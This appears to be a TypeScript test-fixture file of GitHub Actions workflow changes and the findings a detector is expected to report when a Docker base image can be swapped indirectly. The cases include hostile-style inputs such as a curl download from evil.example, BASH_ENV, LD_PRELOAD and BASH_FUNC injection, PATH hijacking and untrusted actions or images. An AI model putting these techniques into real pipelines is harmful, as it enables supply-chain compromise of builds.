import type { BuildChangeRow } from './build-changes.js';

const GOOD = 'debian:trixie-slim';
const EVIL = 'evil.example/x:1';
const FLOW = '.github/workflows/a.yml';
const UNRESOLVED = ['Dockerfile:2 unresolved'];
const FILES = {
  Dockerfile: `ARG BASE=${GOOD}\nFROM $BASE\n`,
  'v.env': `B=${GOOD}\n`,
  't.sh': 'echo $Q\n',
  'w.env': 'x\n',
};

const expression = (text: string) => `\${{ ${text} }}`;
const run = (script: string, more = '') => `{ run: ${JSON.stringify(script)}${more} }`;
const build = (value: string, more = '') => run(`docker build --build-arg BASE=${value} .`, more);
const output = (script: string, more = '') => run(script, `, id: s${more}`);
const BUILT = build(expression('steps.s.outputs.v'));
const CHECKOUT = '{ uses: actions/checkout@v4 }';
const job = (steps: readonly string[], more = '') =>
  `    runs-on: ubuntu-latest\n${more}    steps:\n${[CHECKOUT, ...steps].map((step) => `      - ${step}\n`).join('')}`;

interface Parts {
  readonly steps: readonly string[];
  readonly top?: string;
  readonly more?: string;
  readonly others?: string;
}

const flow = ({ steps, top = '', more = '', others = '' }: Parts): string =>
  `on: push\n${top}jobs:\n${others}  build:\n${job(steps, more)}`;

const change = (
  name: string,
  from: Parts,
  to: Partial<Parts>,
  { found = UNRESOLVED, base = {}, ...more }: Partial<BuildChangeRow> = {},
): BuildChangeRow => ({
  name: `made from: ${name}`,
  base: { ...FILES, ...base, [FLOW]: flow(from) },
  change: { [FLOW]: flow({ ...from, ...to }) },
  found,
  ...more,
});

const OLD = { found: [] };

const CACHING = (uses: string): string =>
  `runs: { using: composite, steps: [{ uses: "${uses}", with: { path: v.env, key: k } }] }\n`;

/** What programs find in their environment changes. */
const environment = (
  name: string,
  steps: readonly string[],
  more: Partial<BuildChangeRow> = {},
): BuildChangeRow =>
  change(
    `a variable of the job, ${name}`,
    { steps, more: `    env: { Q: "${GOOD}" }\n` },
    { more: `    env: { Q: "${EVIL}" }\n` },
    more,
  );

const READING = [
  '$(printenv Q)',
  `$(python3 -c 'import os; print(os.environ["Q"])')`,
  '$(./t.sh)',
  '$(env | sed -n s/^Q=//p)',
  '$(set | sed -n s/^Q=//p)',
  '$(awk "BEGIN { print ENVIRON[\\"Q\\"] }")',
  '$(jq -rn env.Q)',
  `$(N=Q; echo $\{!N} | tr A-Z a-z)`,
];

const VARIABLES: readonly BuildChangeRow[] = [
  ...READING.map((value) => environment(value, [build(value)])),
  ...READING.map((value) =>
    environment(`for an output of ${value}`, [output(`echo "v=${value}" >> $GITHUB_OUTPUT`), BUILT]),
  ),
  environment('for a program and a file', [build('$(envsubst < w.env)')]),
  environment('for a written variable', [run('./t.sh >> $GITHUB_ENV'), build('$B')], {
    found: [`${FLOW}:9 unresolved`, ...UNRESOLVED],
  }),
  environment('for flags', [run('docker build $(./t.sh) .')], { noted: [FLOW] }),
  change(
    'a variable of the step',
    { steps: [build('$(./t.sh)', `, env: { Q: "${GOOD}" }`)] },
    { steps: [build('$(./t.sh)', `, env: { Q: "${EVIL}" }`)] },
  ),
  change(
    'a variable of the workflow',
    { steps: [build('$(./t.sh)')], top: `env: { Q: "${GOOD}" }\n` },
    { top: `env: { Q: "${EVIL}" }\n` },
  ),
  change(
    'a variable of the container',
    { steps: [build('$(./t.sh)')], more: `    container: { image: docker, env: { Q: "${GOOD}" } }\n` },
    { more: `    container: { image: docker, env: { Q: "${EVIL}" } }\n` },
  ),
  change(
    'options of the container',
    { steps: [build('$(./t.sh)')], more: `    container: { image: docker, options: "-e Q=${GOOD}" }\n` },
    { more: `    container: { image: docker, options: "-e Q=${EVIL}" }\n` },
  ),
  change(
    'a variable that a matrix decides',
    {
      steps: [build('$(./t.sh)')],
      more: `    strategy: { matrix: { q: ["${GOOD}"] } }\n    env: { Q: "${expression('matrix.q')}" }\n`,
    },
    { more: `    strategy: { matrix: { q: ["${EVIL}"] } }\n    env: { Q: "${expression('matrix.q')}" }\n` },
  ),
  change(
    'a variable that a step before writes',
    { steps: [run(`echo Q=${GOOD} >> $GITHUB_ENV`), build('$(./t.sh)')] },
    { steps: [run(`echo Q=${EVIL} >> $GITHUB_ENV`), build('$(./t.sh)')] },
  ),
  change(
    'a variable that a new step before writes',
    { steps: [build('$(./t.sh)')] },
    { steps: [run(`echo Q=${EVIL} >> $GITHUB_ENV`), build('$(./t.sh)')] },
  ),
  change(
    'a variable that the script sets',
    { steps: [run(`export Q=${GOOD}\ndocker build --build-arg BASE=$(./t.sh) .`)] },
    { steps: [run(`export Q=${EVIL}\ndocker build --build-arg BASE=$(./t.sh) .`)] },
  ),
  change(
    'a variable for an action of the repository',
    { steps: ['{ uses: ./act, id: s }', BUILT], more: `    env: { Q: "${GOOD}" }\n` },
    { more: `    env: { Q: "${EVIL}" }\n` },
    {
      base: {
        'act/action.yml': 'runs: { using: node20, main: m.js }\noutputs: { v: { description: x } }\n',
        'act/m.js': 'x',
      },
    },
  ),
  change(
    'a variable of the step that uses an action of steps',
    { steps: [`{ uses: ./act, env: { Q: "${GOOD}" } }`] },
    { steps: [`{ uses: ./act, env: { Q: "${EVIL}" } }`] },
    {
      base: {
        'act/action.yml':
          'runs: { using: composite, steps: [{ shell: bash, run: "docker build --build-arg BASE=$(./t.sh) ." }] }\n',
      },
    },
  ),
  change(
    'a folder of the path',
    { steps: [build('$(cat v.env)')] },
    { steps: [run('echo $PWD/bin >> $GITHUB_PATH'), build('$(cat v.env)')] },
  ),
  // what takes no part
  environment('for programs that take nothing of it', [build('$(date +%Y | tr -d 2)')], OLD),
  environment('for a file that is printed', [build('$(cat v.env | cut -d= -f2)')], OLD),
  environment('for what git says', [build('$(git rev-parse HEAD)')], OLD),
  environment('for a value of another place', [build(expression('vars.B'))], OLD),
  environment('for an output of other variables', [output('echo "v=$X" >> $GITHUB_OUTPUT'), BUILT], OLD),
  change(
    'a variable of another job',
    { steps: [build('$(./t.sh)')], others: `  other:\n${job([run('make')], '    env: { Q: a }\n')}` },
    { others: `  other:\n${job([run('make')], '    env: { Q: b }\n')}` },
    OLD,
  ),
  change(
    'a variable that a later step writes',
    { steps: [build('$(./t.sh)')] },
    { steps: [build('$(./t.sh)'), run(`echo Q=${EVIL} >> $GITHUB_ENV`)] },
    OLD,
  ),
];

const WRITING: readonly string[] = [
  run(`echo B=${EVIL} > v.env`),
  run('cp w.env v.env'),
  run('cp -r other/. .'),
  run('mv w.env v.env'),
  run('ln -sf w.env v.env'),
  run('sed -i s/trixie/bookworm/ v.env'),
  run('git checkout evil -- v.env'),
  run('git apply p.patch'),
  run('./t.sh'),
  run('npm run generate'),
  run('curl -o v.env https://evil.example'),
  run(`cd conf; echo B=${EVIL} | tee ../v.env`),
  run(`python3 - <<X\nopen("v"+".env","w")\nX`),
  run(`F=v.env; echo B=${EVIL} > $F`),
  run('echo "$X"', ', shell: "python {0}"'),
  '{ uses: actions/download-artifact@v4, with: { name: v } }',
  '{ uses: actions/cache@v4, with: { path: v.env, key: k } }',
  '{ uses: evil/action@v1 }',
  '{ uses: docker://evil.example/x }',
  '{ uses: ./act }',
  '{ uses: actions/checkout@v4, with: { repository: evil/x, path: conf } }',
  '{ uses: actions/github-script@v7, with: { script: "require(\'fs\').writeFileSync(n, x)" } }',
  '{ uses: docker/build-push-action@v6, with: { outputs: "type=local,dest=." } }',
];
const ACTION = {
  'act/action.yml': 'runs: { using: composite, steps: [{ shell: bash, run: "cp w.env v.env" }] }\n',
};

/** Steps that do not write it. */
const IDLE: readonly string[] = [
  run('echo hello; ls; cat w.env; date'),
  run('echo B=x > other.txt'),
  run('mkdir -p conf; cp w.env conf/x'),
  run('git status; git log -1; docker login -u x'),
  run('echo A=1 >> $GITHUB_ENV'),
  run('if [ -n "$X" ]; then echo yes; fi'),
  '{ uses: actions/setup-node@v4, with: { node-version: 22 } }',
  '{ uses: docker/setup-buildx-action@v3 }',
  '{ uses: actions/upload-artifact@v4, with: { path: v.env } }',
  '{ uses: ./act }',
];

const FILES_BEFORE: readonly BuildChangeRow[] = [
  ...WRITING.map((step) =>
    change(
      `a new step before: ${step}`,
      { steps: [build('$(cat v.env)')] },
      { steps: [step, build('$(cat v.env)')] },
      { base: ACTION, noted: step.includes('apply') ? [FLOW] : [] },
    ),
  ),
  ...WRITING.slice(0, 6).map((step) =>
    change(
      `a new step before what is written for later ones: ${step}`,
      { steps: [run('cat v.env >> $GITHUB_ENV'), build('$B')] },
      { steps: [step, run('cat v.env >> $GITHUB_ENV'), build('$B')] },
      { base: ACTION },
    ),
  ),
  ...IDLE.map((step) =>
    change(
      `an idle step before: ${step}`,
      { steps: [build('$(cat v.env)')] },
      { steps: [step, build('$(cat v.env)')] },
      {
        ...OLD,
        base: {
          'act/action.yml':
            'runs: { using: composite, steps: [{ shell: bash, run: "echo a; cat w.env" }] }\n',
        },
      },
    ),
  ),
  change(
    'the shell of scripts that name none',
    { steps: [build('$(cat v.env)')] },
    { more: '    defaults: { run: { shell: "env Q=evil bash {0}" } }\n' },
  ),
  change(
    'a file of arguments that a step before writes',
    { steps: [run(`echo BASE=${GOOD} > b`), run('podman build --build-arg-file b .')] },
    { steps: [run(`echo BASE=${EVIL} > b`), run('podman build --build-arg-file b .')] },
  ),
  change(
    'a file of variables that a step before writes',
    { steps: [run(`echo B=${GOOD} > b`), run('docker compose --env-file b build')] },
    { steps: [run(`echo B=${EVIL} > b`), run('docker compose --env-file b build')] },
    { base: { 'compose.yaml': `services: { web: { build: { context: ., args: { BASE: "$\{B}" } } } }\n` } },
  ),
  change(
    'a step behind it',
    { steps: [build('$(cat v.env)')] },
    { steps: [build('$(cat v.env)'), run(`echo B=${EVIL} > v.env`)] },
    OLD,
  ),
  change(
    'a step before that takes no part in a known program',
    { steps: [build('$(./t.sh)')] },
    { steps: [run('echo "echo evil" > t.sh'), build('$(./t.sh)')] },
  ),
  ...['v.txt', '/tmp/v.txt', '$RUNNER_TEMP/v.txt', `"${expression('runner.temp')}/v.txt"`].map((path) =>
    change(
      `a file that the repository does not have: ${path}`,
      { steps: [run(`echo ${GOOD} > ${path}`), build(`$(cat ${path})`)] },
      { steps: [run(`echo ${EVIL} > ${path}`), build(`$(cat ${path})`)] },
    ),
  ),
  change(
    'what a step before takes from a variable',
    { steps: [run('echo $X > v.txt'), build('$(cat v.txt)')], more: `    env: { X: "${GOOD}" }\n` },
    { more: `    env: { X: "${EVIL}" }\n` },
  ),
  change(
    'what a step before takes from a matrix',
    {
      steps: [run(`echo ${expression('matrix.x')} > v.txt`), build('$(cat v.txt)')],
      more: `    strategy: { matrix: { x: ["${GOOD}"] } }\n`,
    },
    { more: `    strategy: { matrix: { x: ["${EVIL}"] } }\n` },
  ),
  change(
    'what a step before takes from an output',
    {
      steps: [
        output(`echo v=${GOOD} >> $GITHUB_OUTPUT`),
        run(`echo ${expression('steps.s.outputs.v')} > v.txt`),
        build('$(cat v.txt)'),
      ],
    },
    {
      steps: [
        output(`echo v=${EVIL} >> $GITHUB_OUTPUT`),
        run(`echo ${expression('steps.s.outputs.v')} > v.txt`),
        build('$(cat v.txt)'),
      ],
    },
  ),
  change(
    'a file that a step before copies on',
    { steps: [run(`echo ${GOOD} > a`), run('cp a v.txt'), build('$(cat v.txt)')] },
    { steps: [run(`echo ${EVIL} > a`), run('cp a v.txt'), build('$(cat v.txt)')] },
  ),
  change(
    'an earlier job that hands a file on',
    {
      steps: ['{ uses: actions/download-artifact@v4 }', build('$(cat v.txt)')],
      more: '    needs: a\n',
      others: `  a:\n${job([run(`echo ${GOOD} > v.txt`), '{ uses: actions/upload-artifact@v4, with: { path: v.txt } }'])}`,
    },
    {
      others: `  a:\n${job([run(`echo ${EVIL} > v.txt`), '{ uses: actions/upload-artifact@v4, with: { path: v.txt } }'])}`,
    },
  ),
  change(
    'a step before the one that uses an action',
    { steps: ['{ uses: ./act }'] },
    { steps: [run(`echo ${EVIL} > v.env`), '{ uses: ./act }'] },
    {
      base: {
        'act/action.yml':
          'runs: { using: composite, steps: [{ shell: bash, run: "docker build --build-arg BASE=$(cat v.env) ." }] }\n',
      },
    },
  ),
  change(
    'the version of an action of the runner',
    {
      steps: ['{ uses: actions/cache@v3, with: { path: x, key: k } }', run('npm ci'), build('$(cat v.env)')],
    },
    {
      steps: [
        '{ uses: actions/cache@v4, with: { path: x, key: k } }',
        run('npm ci', ', name: Install'),
        build('$(cat v.env)'),
      ],
    },
    OLD,
  ),
  change(
    'a commit of an action of the runner',
    {
      steps: ['{ uses: actions/cache@v3, with: { path: x, key: k } }', run('npm ci'), build('$(cat v.env)')],
    },
    {
      steps: [
        '{ uses: actions/cache@8e8c483db84b4bee98b60c0593521ed34d9990e8, with: { path: x, key: k } }',
        run('npm ci'),
        build('$(cat v.env)'),
      ],
    },
    OLD,
  ),
  change(
    'an action of the runner as somebody proposes it',
    {
      steps: ['{ uses: actions/cache@v3, with: { path: x, key: k } }', run('npm ci'), build('$(cat v.env)')],
    },
    {
      steps: [
        '{ uses: actions/cache@refs/pull/5/head, with: { path: x, key: k } }',
        run('npm ci'),
        build('$(cat v.env)'),
      ],
    },
  ),
  change(
    'the version of an action of the runner in an action of the repository',
    { steps: ['{ uses: ./act }', build('$(cat v.env)')] },
    {},
    {
      ...OLD,
      base: { 'act/action.yml': CACHING('actions/cache@v3') },
      change: { 'act/action.yml': CACHING('actions/cache@v4') },
    },
  ),
  change(
    'the version of another action in an action of the repository',
    { steps: ['{ uses: ./act }', build('$(cat v.env)')] },
    {},
    {
      base: { 'act/action.yml': CACHING('acme/cache@v3') },
      change: { 'act/action.yml': CACHING('acme/cache@v4') },
    },
  ),
  change(
    'steps before in another order',
    { steps: [run('./a.sh'), run('./b.sh'), build('$(cat v.env)')] },
    { steps: [run('./b.sh'), run('./a.sh'), build('$(cat v.env)')] },
  ),
];

const CALLED = '.github/workflows/r.yml';
const CALLING = `on: push\njobs:\n  a:\n${job([run(`echo ${GOOD} > v.txt`), '{ uses: actions/upload-artifact@v4 }'])}  c: { needs: a, uses: ./${CALLED} }\n`;
const TAKING = flow({ steps: ['{ uses: actions/download-artifact@v4 }', build('$(cat v.txt)')] }).replace(
  'on: push',
  'on: workflow_call',
);

/** Workflows that another one runs: what its jobs have handed on before counts, and its variables do not. */
const CALLS: readonly BuildChangeRow[] = [
  {
    name: 'made from: a job of the workflow that runs another one',
    base: { ...FILES, [FLOW]: CALLING, [CALLED]: TAKING },
    change: { [FLOW]: CALLING.replace(`echo ${GOOD}`, `echo ${EVIL}`) },
    found: UNRESOLVED,
  },
  {
    name: 'made from: a variable of the workflow that runs another one',
    base: { ...FILES, [FLOW]: `env: { Q: a }\n${CALLING}`, [CALLED]: TAKING.replace('cat v.txt', './t.sh') },
    change: { [FLOW]: `env: { Q: a, R: b }\n${CALLING}` },
    found: UNRESOLVED,
  },
  {
    name: 'made from: a variable of the workflow that runs another one, which takes no files',
    base: {
      ...FILES,
      [FLOW]: `env: { Q: a }\n${CALLING}`,
      [CALLED]: flow({ steps: [build('$(./t.sh)')] }).replace('on: push', 'on: workflow_call'),
    },
    change: { [FLOW]: `env: { Q: a, R: b }\n${CALLING}` },
    found: [],
  },
];

/** Files that steps before name. */
const named = (
  name: string,
  step: string,
  path: string,
  more: Partial<BuildChangeRow> = {},
): BuildChangeRow => ({
  name: `made from: ${path} of a step before, ${name}`,
  base: { ...FILES, [path]: 'a\n', [FLOW]: flow({ steps: [step, build('$(cat v.env)')] }) },
  change: { [path]: 'b\n' },
  found: UNRESOLVED,
  ...more,
});

const NAMED: readonly BuildChangeRow[] = [
  named('which runs it', run('./tools/x.sh'), 'tools/x.sh'),
  named('which runs it in a language', run('python3 tools/x.py --all'), 'tools/x.py'),
  named('which copies it', run('cp conf/a.env v.env'), 'conf/a.env'),
  named('which does what it says', run('make prepare'), 'Makefile'),
  named('which takes packages from it', run('npm ci && npm test'), 'package.json', OLD),
  named('which looks at many', run('npx prettier --check "**/*.md"'), 'docs/a.md', OLD),
  named('which does not write the file', run('cat tools/x.sh > y'), 'tools/x.sh', OLD),
];

const COMPOSE = {
  'compose.yaml': `services: { web: { build: { context: ., args: { BASE: "$\{B}" } } } }\n`,
  '.env': `B=${GOOD}\n`,
};
const COMPOSING = run('docker compose build');

/** A step writes what a build is read from: how it does so changes. */
const written = (
  name: string,
  from: Parts,
  to: Partial<Parts>,
  { noted = [FLOW], ...more }: Partial<BuildChangeRow> = {},
): BuildChangeRow =>
  change(`what is written: ${name}`, from, to, {
    found: [],
    noted,
    ...more,
    base: { ...COMPOSE, ...more.base },
  });

const JUDGED = { found: [`Dockerfile:2 unapproved ${EVIL}`], noted: [] };

const MAKING = { steps: [run('./t.sh > .env'), COMPOSING] };

const WRITTEN: readonly BuildChangeRow[] = [
  {
    ...written('by a program of the repository', MAKING, {}),
    change: { 't.sh': 'echo B=evil\n' },
  },
  {
    ...written('from another file', { steps: [run('sed s/a/b/ w.env > .env'), COMPOSING] }, {}),
    change: { 'w.env': 'B=evil\n' },
  },
  {
    ...written('as another file', { steps: [run('cp w.env .env'), COMPOSING] }, {}, JUDGED),
    change: { 'w.env': `B=${EVIL}\n` },
  },
  written(
    'in other words',
    { steps: [run('echo B=a > .env'), COMPOSING] },
    { steps: [run(`echo B=${EVIL} > .env`), COMPOSING] },
    JUDGED,
  ),
  written(
    'from a variable',
    { steps: [run('echo B=$Q > .env'), COMPOSING], more: '    env: { Q: a }\n' },
    { more: `    env: { Q: "${EVIL}" }\n` },
    JUDGED,
  ),
  written(
    'from what a program finds',
    { ...MAKING, more: '    env: { Q: a }\n' },
    { more: '    env: { Q: b }\n' },
  ),
  written(
    'from what a step before writes',
    { steps: [run('echo B=a > v'), run('cp v .env'), COMPOSING] },
    { steps: [run('echo B=b > v'), run('cp v .env'), COMPOSING] },
  ),
  written(
    'by the second of two steps',
    { steps: [run('echo B=a > .env'), run('echo C=a >> .env'), COMPOSING] },
    { steps: [run('echo B=a > .env'), run(`echo B=${EVIL} >> .env`), COMPOSING] },
    JUDGED,
  ),
  written(
    'a Dockerfile',
    { steps: [run('sed -i s/a/b/ Dockerfile'), run('docker build .')] },
    { steps: [run('sed -i s/a/c/ Dockerfile'), run('docker build .')] },
  ),
  written(
    'a file of an unusual name',
    { steps: [run('sed -i s/a/b/ odd'), run('docker build -f odd .')] },
    { steps: [run('sed -i s/a/c/ odd'), run('docker build -f odd .')] },
    { base: { odd: `FROM ${GOOD}\n` } },
  ),
  written(
    'for an action of steps, by what it is given',
    { steps: ['{ uses: ./act, with: { k: a } }', COMPOSING] },
    { steps: ['{ uses: ./act, with: { k: b } }', COMPOSING] },
    {
      noted: ['act/action.yml'],
      base: {
        'act/action.yml': `inputs: { k: { description: k } }\nruns: { using: composite, steps: [{ shell: bash, run: "echo B=${expression('inputs.k')} > .env" }] }\n`,
      },
    },
  ),
  written(
    'from another commit',
    { steps: [run('git checkout "$(./t.sh)"'), run('docker build .')], more: '    env: { Q: a }\n' },
    { more: '    env: { Q: b }\n' },
  ),
  // as it was
  { ...written('while something else changes', MAKING, {}, { noted: [] }), change: { 'w.env': 'B=evil\n' } },
  written('while a step after it changes', MAKING, { steps: [...MAKING.steps, run('make')] }, { noted: [] }),
  written('while another job changes', MAKING, { others: `  other:\n${job([run('make')])}` }, { noted: [] }),
];

const EVIL_FILES = { 'f.sh': 'echo evil > v.env\n', 'bin/cat': 'x\n' };
/** Variables with which a step does more than it says. */
const CODE = [
  'BASH_ENV: f.sh',
  '"BASH_FUNC_mkdir%%": "() { cp w.env v.env; }"',
  'PATH: "./bin:/usr/bin"',
  'LD_PRELOAD: ./x.so',
  'PS4: "$(cp w.env v.env)"',
  'SHELLOPTS: xtrace',
  `"${expression('vars.N')}": f.sh`,
];
const MAKING_FOLDER = run('mkdir x');

const LOADED: readonly BuildChangeRow[] = [
  ...CODE.map((code) =>
    change(
      `a new step before with ${code}`,
      { steps: [build('$(cat v.env)')] },
      { steps: [run('mkdir x', `, env: { ${code} }`), build('$(cat v.env)')] },
      {
        base: EVIL_FILES,
        ...(code.includes('vars') ? { found: [`${FLOW}:8 unresolved`, ...UNRESOLVED] } : {}),
      },
    ),
  ),
  change(
    'code for a step before',
    { steps: [MAKING_FOLDER, build('$(cat v.env)')] },
    { steps: [run('mkdir x', ', env: { BASH_ENV: f.sh }'), build('$(cat v.env)')] },
    { base: EVIL_FILES },
  ),
  {
    ...change('x', { steps: [run('mkdir x', ', env: { BASH_ENV: f.sh }'), build('$(cat v.env)')] }, {}),
    name: 'made from: what a file says that the shell of a step before reads',
    change: { 'f.sh': 'cp w.env v.env\n' },
  },
  change(
    'code for an action before',
    { steps: ['{ uses: ./act }', build('$(cat v.env)')] },
    { steps: ['{ uses: ./act, env: { BASH_ENV: f.sh } }', build('$(cat v.env)')] },
    {
      base: {
        ...EVIL_FILES,
        'act/action.yml': 'runs: { using: composite, steps: [{ shell: bash, run: "mkdir x" }] }\n',
      },
    },
  ),
  change(
    'an idle step before with a variable',
    { steps: [build('$(cat v.env)')] },
    { steps: [run('mkdir x', ', env: { A: b }'), build('$(cat v.env)')] },
    OLD,
  ),
  change(
    'an idle step before that reads line by line',
    { steps: [build('$(cat v.env)')] },
    { steps: [run('while IFS= read -r l; do echo "$l"; done < w.env'), build('$(cat v.env)')] },
    OLD,
  ),
];

const IMAGE = '    container: node:24\n';
const OTHER_IMAGE = '    container: evil.example/node:24\n';
const MACHINE = 'runs-on: ubuntu-24.04';
const PRODUCING = ['$(cat v.env)', '$(git describe)', '$(date)', '$(./t.sh)', '$B'];

/** Where programs come from: the image of the container, which the change decides, and not the machine. */
const PLACES: readonly BuildChangeRow[] = [
  ...PRODUCING.map((value) =>
    change(
      `the image of the container, for ${value}`,
      { steps: [build(value)], more: IMAGE },
      { more: OTHER_IMAGE },
    ),
  ),
  change(
    'the image of the container, as one of its keys',
    { steps: [build('$(cat v.env)')], more: '    container: { image: node:24 }\n' },
    { more: '    container: { image: evil.example/node:24 }\n' },
  ),
  change(
    'the image of a service, for a program',
    { steps: [build('$(./t.sh)')], more: '    services: { d: { image: redis } }\n' },
    { more: '    services: { d: { image: evil.example/redis } }\n' },
  ),
  change(
    'the image of a service, for a file',
    { steps: [build('$(cat v.env)')], more: '    services: { d: { image: redis:7 } }\n' },
    { more: '    services: { d: { image: redis:8 } }\n' },
    OLD,
  ),
  change(
    'the image of the container, for a variable of an action',
    {
      steps: ['{ uses: docker/build-push-action@v6, with: { context: ., build-args: BASE } }'],
      more: IMAGE,
    },
    { more: OTHER_IMAGE },
  ),
  change(
    'the image of the container, for a value of another place',
    { steps: [build(expression('vars.B'))], more: IMAGE },
    { more: OTHER_IMAGE },
    OLD,
  ),
  ...PRODUCING.slice(0, -1).map((value): BuildChangeRow => {
    const row = change(`the machine, for ${value}`, { steps: [build(value)] }, {}, OLD);
    const text = row.base[FLOW] ?? '';
    return { ...row, change: { [FLOW]: text.replace('runs-on: ubuntu-latest', MACHINE) } };
  }),
];

const SETTING = 'echo B=$1 >> $GITHUB_ENV\n';
const TAKEN = `{ uses: docker/build-push-action@v6, with: { context: ., build-args: "BASE=${expression('env.B')}" } }`;

const program = (name: string, script: string, path: string, from: string, to: string): BuildChangeRow => ({
  ...change('x', { steps: [run(script), TAKEN] }, {}, { base: { [path]: from } }),
  name: `made from: a program that a step before runs, ${name}`,
  change: { [path]: to },
});

/** Programs of the repository that may set a variable which nothing else sets. */
const PROGRAMS: readonly BuildChangeRow[] = [
  program('by its path', './s.sh', 's.sh', 'echo B=a >> $GITHUB_ENV\n', 'echo B=b >> $GITHUB_ENV\n'),
  program('by a shell', 'bash s.sh', 's.sh', 'echo B=a >> $GITHUB_ENV\n', 'echo B=b >> $GITHUB_ENV\n'),
  program(
    'in a language',
    'python3 s.py',
    's.py',
    'f(environ["GITHUB_ENV"], "a")\n',
    'f(environ["GITHUB_ENV"], "b")\n',
  ),
  program(
    'as a task',
    'make x',
    'Makefile',
    'x:\n\techo B=a >> $(GITHUB_ENV)\n',
    'x:\n\techo B=b >> $(GITHUB_ENV)\n',
  ),
  program('which did not set any', './s.sh', 's.sh', 'true\n', 'echo B=b >> $GITHUB_ENV\n'),
  { ...program('which sets none', './s.sh', 's.sh', 'make lint\n', 'make lint fast\n'), found: [] },
  change(
    'a new step before that runs a program',
    { steps: [TAKEN] },
    { steps: [run('./s.sh b'), TAKEN] },
    { base: { 's.sh': SETTING } },
  ),
  change(
    'what a program is given that a step before runs',
    { steps: [run('./s.sh a'), TAKEN] },
    { steps: [run('./s.sh b'), TAKEN] },
    { base: { 's.sh': SETTING } },
  ),
  change(
    'a program that a step behind runs',
    { steps: [TAKEN] },
    { steps: [TAKEN, run('./s.sh b')] },
    { ...OLD, base: { 's.sh': SETTING } },
  ),
];

const FOLDER = { 'bin/base': `echo ${GOOD}\n`, 'bin/readme': 'x\n' };
const ADDING = run('echo $PWD/bin >> $GITHUB_PATH');

/** A program that is found in a folder of the repository which is on the path. */
const found = (
  name: string,
  parts: Parts,
  path = 'bin/base',
  more: Partial<BuildChangeRow> = {},
): BuildChangeRow => ({
  ...change('x', parts, {}, { ...more, base: { ...FOLDER, ...more.base } }),
  name: `made from: ${path}, found on the path ${name}`,
  change: { [path]: `echo ${EVIL}\n` },
});

const ON_PATH: readonly BuildChangeRow[] = [
  found('that a step before makes', { steps: [ADDING, build('$(base)')] }),
  found(
    'that a file read in by a step before makes',
    { steps: [run('. ./p.sh'), build('$(base)')] },
    'bin/base',
    {
      base: { 'p.sh': 'echo $PWD/bin >> $GITHUB_PATH\n' },
    },
  ),
  found('of the script', {
    steps: [run('export PATH=$PWD/bin:$PATH\ndocker build --build-arg BASE=$(sudo -E base) .')],
  }),
  found('of the step', {
    steps: [output('echo "v=$(base)" >> $GITHUB_OUTPUT', ', env: { PATH: "./bin:/usr/bin" }'), BUILT],
  }),
  found(
    'that a step before makes, which nothing runs',
    { steps: [ADDING, build('$(base)')] },
    'bin/readme',
    OLD,
  ),
  found('of a step behind', { steps: [build('$(base)'), ADDING] }, 'bin/base', OLD),
];

const SETS = (value: string): string => `echo "BASE=${value}" >> $GITHUB_ENV`;
const CONFIGURED = {
  'conf/u.txt': GOOD,
  'conf.d/u.md': 'x\n',
  'tools/x.py': 'print(1)\n',
  'go.sh': `cd "$(dirname "\${BASH_SOURCE[0]}")/conf"\n`,
};

/** A file changes in a folder that only running the script tells, or that a command is given. */
const inFolder = (script: string, more: Partial<BuildChangeRow> & { readonly also?: string } = {}) => {
  const { also = '', ...row } = more;
  return {
    ...change('x', { steps: [run(script, also), build('$BASE')] }, {}, { ...row, base: CONFIGURED }),
    name: `made from: a file in a folder, ${script.replaceAll('\n', '; ')}${also}`,
    change: row.change ?? { 'conf/u.txt': EVIL },
  };
};

const IN_FOLDERS: readonly BuildChangeRow[] = [
  ...[
    `D=conf\ncd "$D"\n${SETS('$(cat u.txt)')}`,
    `enter() { cd conf; }\nenter\n${SETS('$(cat u.txt)')}`,
    `cd "$(git rev-parse --show-toplevel)/conf"\n${SETS('$(cat u.txt)')}`,
    `. ./go.sh\n${SETS('$(cat u.txt)')}`,
    `CDPATH=/x:.\ncd "$1"\n${SETS('$(cat *)')}`,
    `for d in conf conf.d; do (cd $d && ${SETS('$(cat u.txt)')}); done`,
    SETS(`$(cd "\${D:-conf}" && cat u.txt)`),
    SETS('$(env -C conf cat u.txt)'),
    SETS('$(git -C conf show HEAD:./u.txt)'),
    SETS('$(make -sC conf -f u.txt)'),
    SETS('$(grep -rh BASE conf)'),
    SETS('$(grep -rh BASE "$(git rev-parse --show-toplevel)/conf/")'),
    SETS('$(tar c conf | tar xO)'),
    SETS('$(python3 tools/x.py --dir=conf)'),
    `D=conf\n${SETS('$(python3 tools/x.py "$D")')}`,
    SETS('$(docker run -v "$PWD/conf:/w" busybox cat /w/u.txt)'),
    `cp -r conf /tmp/c\n${SETS('$(cat /tmp/c/u.txt)')}`,
  ].map((script) => inFolder(script)),
  inFolder(SETS('$(cat u.txt)'), { also: `, working-directory: "${expression('vars.D')}"` }),
  inFolder(SETS('$(python3 -c "import conf; print(conf.X)")'), { change: { 'conf/__init__.py': 'X=1\n' } }),
  inFolder(SETS('$(node -p "require(\'./conf\').base")'), { change: { 'conf.json': '{}\n' } }),
  ...[
    `cd "$D"\n${SETS('$(cat v.env)')}`,
    `mkdir -p conf\nif [ -d conf ]; then echo conf; fi\n${SETS('$(cat v.env)')}`,
    `cd "$(mktemp -d)"\n${SETS('$(cat u.txt)')}`,
    `cd "$RUNNER_TEMP/x"\n${SETS('$(cat u.txt)')}`,
    `make conf\nnpm run conf\ngh conf\n${SETS('$(cat v.env)')}`,
    `cp v.env conf\n${SETS('$(cat v.env)')}`,
    SETS('$(git log -1 --format=%h -- conf)'),
    `docker build conf\n${SETS('$(cat v.env)')}`,
    SETS('$(grep -rh BASE conf.d)'),
  ].map((script) => inFolder(script, OLD)),
];

export const MADE_FROM_CHANGES: readonly BuildChangeRow[] = [
  ...VARIABLES,
  ...FILES_BEFORE,
  ...CALLS,
  ...NAMED,
  ...WRITTEN,
  ...LOADED,
  ...PLACES,
  ...PROGRAMS,
  ...ON_PATH,
  ...IN_FOLDERS,
];
